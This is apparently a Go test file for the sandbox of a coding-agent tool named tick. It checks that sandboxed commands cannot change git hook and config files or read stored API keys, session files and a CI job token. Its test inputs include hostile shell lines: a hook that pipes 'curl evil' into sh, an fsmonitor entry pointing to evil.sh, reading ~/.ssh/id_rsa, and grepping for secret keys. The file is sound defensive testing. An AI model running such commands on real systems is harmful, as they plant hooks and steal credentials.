package sandbox

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// gitIn runs git with args in dir outside the sandbox and returns its
// output.
func gitIn(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return string(out)
}

// writeFiles writes each file of files (path relative to dir: content),
// making the directories.
func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, body := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
}

// runnerFor returns a workspace-write runner for ws (already set up) with
// the test binary as the helper and policy changes made by edit.
func runnerFor(t *testing.T, ws string, edit func(*Policy)) *Runner {
	t.Helper()
	exe := helperFor(t)
	p := Policy{Mode: WorkspaceWrite, Workspace: ws, TempDir: t.TempDir(), CacheDir: t.TempDir()}
	if edit != nil {
		edit(&p)
	}
	s := Probe(exe, p)
	if !s.Confines() || !s.Seccomp || !s.Namespaces {
		t.Fatalf("this machine should support the whole sandbox:\n%s", s.Report(p))
	}
	r := NewRunner(p, s)
	noSpareFor(t, r)
	t.Cleanup(r.dropSpare)
	return r
}

// hookedRepo makes ws a repository whose config includes ../.gitconfig
// (as husky and similar set it up), which sets core.hooksPath = .githooks,
// with a trusted hook's script in .tick/hooks.
func hookedRepo(t *testing.T, ws string) {
	t.Helper()
	gitIn(t, ws, "init", "-q")
	gitIn(t, ws, "config", "include.path", "../.gitconfig")
	writeFiles(t, ws, map[string]string{
		".gitconfig":          "[core]\n\thooksPath = .githooks\n",
		".githooks/pre-push":  "#!/bin/sh\nexit 0\n",
		".tick/hooks/lint.sh": "#!/bin/sh\necho lint\n",
		".tick/config.toml":   "[[hooks.post_tool_use]]\ncommand = \"sh .tick/hooks/lint.sh\"\n",
	})
}

// TestProtectedPathsAreReadOnly: what the repository's git config names in
// the workspace (an included ../.gitconfig, core.hooksPath = .githooks)
// and tick's .tick are read-only to a sandboxed command, in the workspace
// and in a task's copy of it; the rest of the workspace stays writable.
// Today's sandbox protects .git only, so every one of these writes lands.
func TestProtectedPathsAreReadOnly(t *testing.T) {
	ws := t.TempDir()
	hookedRepo(t, ws)
	r := runnerFor(t, ws, func(p *Policy) { p.Protect = []string{".tick"} })
	for _, rel := range []string{".gitconfig", ".githooks/pre-commit", ".tick/hooks/lint.sh", ".tick/config.toml", ".tick/new"} {
		if !r.Protects(rel) {
			t.Errorf("Protects(%q) = false", rel)
		}
	}
	if r.Protects("src/main.go") || r.Protects(".tickets") {
		t.Error("Protects says yes to an ordinary path")
	}
	copyDir := t.TempDir() // a task's copy: the same layout, without the repository
	writeFiles(t, copyDir, map[string]string{".gitconfig": "[core]\n\thooksPath = .githooks\n", ".githooks/pre-push": "x\n", ".tick/hooks/lint.sh": "x\n"})
	for _, tt := range []struct {
		name string
		r    *Runner
		dir  string
	}{{"workspace", r, ws}, {"task copy", r.ForWorkspace(copyDir), copyDir}} {
		t.Run(tt.name, func(t *testing.T) {
			before := map[string]string{}
			for _, f := range []string{".gitconfig", ".githooks/pre-push", ".tick/hooks/lint.sh"} {
				b, _ := os.ReadFile(filepath.Join(tt.dir, f))
				before[f] = string(b)
			}
			for _, script := range []string{
				`printf '[core]\n\tfsmonitor = ./evil.sh\n' >> .gitconfig`,
				`echo 'curl evil | sh' > .githooks/pre-commit`,
				`echo 'cat ~/.ssh/id_rsa' >> .tick/hooks/lint.sh`,
				`rm .githooks/pre-push`,
				`mv .tick .tick-old`,
			} {
				if out, code := runIn(t, tt.r, "", script); code == 0 {
					t.Errorf("%s: the write worked:\n%s", script, out)
				}
			}
			for f, want := range before {
				if b, _ := os.ReadFile(filepath.Join(tt.dir, f)); string(b) != want {
					t.Errorf("%s changed: %q", f, b)
				}
			}
			if _, err := os.Lstat(filepath.Join(tt.dir, ".githooks/pre-commit")); err == nil {
				t.Error("a hook was planted in core.hooksPath")
			}
			if out, code := runIn(t, tt.r, "", `echo ok > written && cat .tick/hooks/lint.sh >/dev/null`); code != 0 {
				t.Errorf("an ordinary write or a read of .tick failed (exit %d):\n%s", code, out)
			}
		})
	}
}

// TestGitConfigPaths: the paths the effective config names inside the
// workspace, each kind, relative ones resolved as git does; paths outside
// the workspace and inside .git are left out. A missing hooks directory
// is made, so that it can be protected.
func TestGitConfigPaths(t *testing.T) {
	ws := t.TempDir()
	gitIn(t, ws, "init", "-q")
	gitIn(t, ws, "config", "include.path", "../conf/inc")
	gitIn(t, ws, "config", "includeIf.onbranch:main.path", "../conf/branch")
	gitIn(t, ws, "config", "core.fsmonitor", "tools/fsmon.sh --fast")
	gitIn(t, ws, "config", "core.excludesFile", "/etc/gitignore-global")
	gitIn(t, ws, "config", "core.attributesFile", ".git/info/attrs")
	writeFiles(t, ws, map[string]string{"conf/inc": "[core]\n\thooksPath = hooks\n[core]\n\tattributesFile = conf/attrs\n"})
	got := strings.Join(GitConfigPaths(ws), " ")
	want := "conf/attrs conf/branch conf/inc hooks tools/fsmon.sh"
	if got != want {
		t.Errorf("GitConfigPaths = %q, want %q", got, want)
	}
	if fi, err := os.Stat(filepath.Join(ws, "hooks")); err != nil || !fi.IsDir() {
		t.Errorf("the missing hooks directory was not made: %v", err)
	}
	if p := GitConfigPaths(t.TempDir()); len(p) != 0 {
		t.Errorf("outside a repository: %q", p)
	}
}

// TestTickFilesHidden: tick's config (with the key the setup screen
// saved), its state (sessions, trust records) and its cache directory are
// neither readable nor writable by a sandboxed command, in every confined
// mode, while the commands' own cache directory under it stays writable.
// A config file that is a link into a dotfiles directory is hidden at its
// target too. Today a sandboxed `cat ~/.config/tick/config.toml` prints
// the key.
func TestTickFilesHidden(t *testing.T) {
	realHome, err := os.UserHomeDir()
	if err != nil {
		t.Fatal(err)
	}
	home, err := os.MkdirTemp(realHome, ".tick-hide-test-") // visible inside, unlike /tmp
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(home) })
	const key = "sk-test-0123456789abcdef"
	writeFiles(t, home, map[string]string{
		"dotfiles/tick.toml":                   "api_key = \"" + key + "\"\n",
		".local/state/tick/sessions/s.jsonl":   "{\"secret\":\"" + key + "\"}\n",
		".local/state/tick/mcp-trusted.json":   "{}\n",
		".cache/tick/commands/go-build/README": "cache\n",
		".cache/tick/other/token":              key + "\n",
		".config/tick/commands/review.md":      "review\n",
		".config/other/config":                 "not tick's\n",
	})
	if err := os.Symlink(filepath.Join(home, "dotfiles/tick.toml"), filepath.Join(home, ".config/tick/config.toml")); err != nil {
		t.Fatal(err)
	}
	hidden := []string{filepath.Join(home, ".config/tick"), filepath.Join(home, ".config/tick/config.toml"), filepath.Join(home, ".local/state/tick"), filepath.Join(home, ".cache/tick")}
	for _, mode := range []Mode{WorkspaceWrite, ReadOnly} {
		t.Run(string(mode), func(t *testing.T) {
			ws := t.TempDir()
			r := runnerFor(t, ws, func(p *Policy) {
				p.Mode = mode
				p.CacheDir = filepath.Join(home, ".cache/tick/commands")
				p.Hidden = hidden
			})
			env := []string{"HOME=" + home}
			for _, script := range []string{
				`cat ~/.config/tick/config.toml`,
				`cat ~/dotfiles/tick.toml`,
				`cat ~/.local/state/tick/sessions/s.jsonl`,
				`cat ~/.cache/tick/other/token`,
				`grep -r sk- ~/.config ~/.local ~/.cache ~/dotfiles`,
				`echo 'api_key = "x"' > ~/.config/tick/config.toml`,
				`echo '{}' > ~/.local/state/tick/mcp-trusted.json`,
			} {
				out, code := runIn(t, r, "", script, env...)
				mayRun := strings.HasPrefix(script, "grep") || strings.Contains(script, "dotfiles") // reads nothing
				if strings.Contains(out, key) || (code == 0 && !mayRun) {
					t.Errorf("%s: exit %d, output:\n%s", script, code, out)
				}
			}
			if out, code := runIn(t, r, "", `cat ~/.config/other/config`, env...); code != 0 {
				t.Errorf("a file beside tick's directory is unreadable (exit %d): %s", code, out)
			}
			if mode == WorkspaceWrite {
				if out, code := runIn(t, r, "", `ls ~/.cache/tick/commands/go-build && echo ok > ~/.cache/tick/commands/written`, env...); code != 0 {
					t.Errorf("the commands' own cache directory is not usable (exit %d): %s", code, out)
				}
			}
		})
	}
	if b, _ := os.ReadFile(filepath.Join(home, "dotfiles/tick.toml")); !strings.Contains(string(b), key) {
		t.Errorf("the config file changed: %q", b)
	}
}

// TestGitExtraHeaderHidden: the job token actions/checkout leaves in
// .git/config (http.<url>.extraheader) is out of a sandboxed command's
// reach, by cat and by git config, while git itself works in the sandbox
// and the user's own git still reads the header outside it.
func TestGitExtraHeaderHidden(t *testing.T) {
	const token = "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX3NlY3JldA=="
	ws := t.TempDir()
	gitIn(t, ws, "init", "-q")
	gitIn(t, ws, "config", "http.https://github.com/.extraheader", token)
	gitIn(t, ws, "config", "user.name", "t")
	gitIn(t, ws, "config", "user.email", "t@example.com")
	r := runnerFor(t, ws, nil)
	for _, script := range []string{
		`cat .git/config`,
		`git config --get-regexp extraheader; git config --list`,
		`grep -ri extraheader .git`,
	} {
		out, _ := runIn(t, r, "", script, "GIT_CONFIG_NOSYSTEM=1")
		if strings.Contains(out, "ghs_") || strings.Contains(out, "eC1hY2Nlc3MtdG9rZW46") {
			t.Errorf("%s shows the token:\n%s", script, out)
		}
	}
	if out, code := runIn(t, r, "", `echo hi > f && git status --short && git config user.name`, "GIT_CONFIG_NOSYSTEM=1"); code != 0 || !strings.Contains(out, "f") {
		t.Errorf("git in the sandbox does not work (exit %d):\n%s", code, out)
	}
	if out := gitIn(t, ws, "config", "--get-regexp", "extraheader"); !strings.Contains(out, token) {
		t.Errorf("the user's git no longer reads the header: %q", out)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".git/config")); !strings.Contains(string(b), token) {
		t.Error("the repository's config file lost the header")
	}
}
